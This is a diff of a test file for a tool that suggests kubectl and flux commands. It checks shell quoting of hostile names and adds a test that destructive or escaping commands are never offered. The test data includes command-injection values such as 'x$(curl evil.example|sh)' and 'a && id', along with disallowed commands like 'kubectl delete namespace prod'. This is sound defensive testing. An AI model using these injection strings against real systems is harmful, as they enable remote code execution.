@@ -1,6 +1,6 @@
 import { execFileSync } from "node:child_process";
 import { describe, expect, it } from "vitest";
-import { commandsFor, explain, problems, shellCommand, type FlowNode } from "../src/index.js";
+import { commandsFor, offeredCommand, problems, shellCommand, type FlowNode } from "../src/index.js";
 import { commandLine } from "../src/shell.js";
 import { edge, graphOf, node } from "./flow.js";
 import { Random } from "./random.js";
@@ -90,18 +90,27 @@ describe("commands of a hostile flow", () => {
     "cilium; id #", "x$(curl evil.example|sh)", "`id`", "a; id ~", "a' ; id ; '", 'a" ; id ; "', "a\\", "$IFS", "a && id", "a | id", "a > /dev/full", "*", "~root", "a b", "!!", "it's",
   ];
   const unfit = ["a\nid\n", "a\u001b]0;x\u0007", "a\u009b2J", "a\u202eb", "--kubeconfig=/tmp/x", "-Axyz", "a\u2028id", "1025".repeat(257)];
-  const messages = (t: string): readonly string[] => [
-    `namespaces "${t}" not found`,
-    `User "${t}" cannot list resource "${t}" in API group ""`,
-    `User "x" cannot get resource "${t}"`,
-    `no artifact available for HelmChart source '${t}'`,
-    `could not resolve Secret chart values reference '${t}/${t}' with key 'k': x not found`,
-    `could not resolve ConfigMap chart values reference '${t}/${t}' with key 'k': bad`,
-    `unable to get '${t}/${t}' dependency: not found`,
-    `dependency '${t}/${t}' is not ready`,
-    `timeout waiting for: [Deployment/${t}/${t} status: 'InProgress']`,
-    `could not get Source object: HelmChart "${t}" not found`,
+  /** As an adapter sends them; what is empty is data. */
+  const COMMANDS = [
+    ["kubectl", "-n", "", "describe", "deployment", ""],
+    ["kubectl", "-n", "", "get", "helmrelease", "", "-o", "jsonpath={.spec.dependsOn}"],
+    ["flux", "reconcile", "helmrelease", "", "-n", "", "--reset"],
+    ["kubectl", "auth", "can-i", "get", "pods", "--as=x"],
   ];
+
+  it.each([
+    [["kubectl", "delete", "namespace", "prod"]],
+    [["kubectl", "-n", "a", "exec", "b"]],
+    [["kubectl", "get", "pods", "--server=https://example.com"]],
+    [["kubectl", "--kubeconfig=x", "get", "pods"]],
+    [["flux", "uninstall"]],
+    [["sh", "-c", "true"]],
+    [["constructor", "get"]],
+    [[]],
+  ])("offers no one %j", (argv) => {
+    expect(offeredCommand(argv)).toBeUndefined();
+  });
+
   function all(t: string): readonly string[] {
     const nodes: FlowNode[] = [
       node("r/0", "failed", { namespace: t, reason: "InstallFailed", suspended: true }, { label: t }),
@@ -109,10 +118,10 @@ describe("commands of a hostile flow", () => {
       node("r/2", "running", { namespace: t, waitingFor: [`r/${t}`], waitingSince: 1 }, { label: t }),
       node("r/3", "running", { namespace: t, reason: "DependencyNotReady" }, { label: t }),
       node("r/4", "succeeded", { namespace: t, deletingSince: 1 }, { label: t }),
+      ...COMMANDS.map((command, i) => node(`r/judged${i}`, "failed", { judgement: { state: "broken", problem: true, command: command.map((a) => (a === "" ? t : a)) } })),
     ];
     const g = graphOf(nodes, [edge("r/3", "r/3")]);
-    const told = messages(t).flatMap((m) => [explain("InstallFailed", m, { namespace: t }, t), explain("InstallFailed", m, {}, "")]);
-    return [...nodes.flatMap((n) => commandsFor(n)), ...problems(g, 1e9), ...told].flatMap((c) => c.command ?? []);
+    return [...nodes.flatMap((n) => commandsFor(n)), ...problems(g, 1e9)].flatMap((c) => c.command ?? []);
   }
 
   it.each(hostile)("gives the shell %j as it is and runs nothing else", (text) => {
